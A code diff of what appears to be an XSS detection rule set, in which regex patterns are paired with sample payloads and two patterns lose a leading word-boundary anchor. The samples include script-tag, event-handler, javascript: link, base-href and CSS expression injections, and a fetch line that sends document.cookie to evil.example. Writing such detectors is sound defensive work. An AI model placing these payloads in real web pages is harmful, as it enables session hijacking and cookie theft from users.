@@ -10,10 +10,7 @@ export const crossSiteScripting: BaselineFamily = {
     [String.raw`<\s{0,3}/?\s{0,3}script[\s/>]`, '<script>alert(1)</script>'],
     [String.raw`\\u003c\s{0,3}/?script\b|\\x3c\s{0,3}/?script\b`, String.raw`\u003cscript\u003e`],
     [String.raw`<[a-z][^<>]{0,200}[\s/"']on[a-z]{3,20}\s{0,3}=\s{0,3}[^{\s]`, '<svg onload=alert(1)>'],
-    [
-      String.raw`\b(?:href|src|action|formaction|data|to|from|values)\s{0,3}=${scheme}`,
-      '<a href="javascript:alert(1)">',
-    ],
+    [String.raw`(?:href|src|action|formaction|data|to|from|values)\s{0,3}=${scheme}`, '<a href="javascript:alert(1)">'],
     [String.raw`(?:\]|url)\(${scheme}`, '[open](javascript:alert(1))'],
     [
       String.raw`(?:\]\(|\b(?:src|href|data|action)\s{0,3}=)\s{0,3}["']?\s{0,3}data:(?:text/html|image/svg|application/x|text/xml)`,
@@ -33,7 +30,7 @@ export const crossSiteScripting: BaselineFamily = {
     ],
     [String.raw`<\s{0,3}base\s[^>]{0,60}\bhref\s{0,3}=`, '<base href="https://evil.example/">'],
     [
-      String.raw`\bstyle\s{0,3}=[^>]{0,150}(?:expression\s{0,3}\(|-moz-binding|behavior\s{0,3}:)`,
+      String.raw`style\s{0,3}=[^>]{0,150}(?:expression\s{0,3}\(|-moz-binding|behavior\s{0,3}:)`,
       '<p style="width:expression(alert(1))">',
     ],
     [String.raw`(?:http|fetch)[^\n;]{0,100}document\.cookie`, "fetch('https://evil.example/'+document.cookie)"],
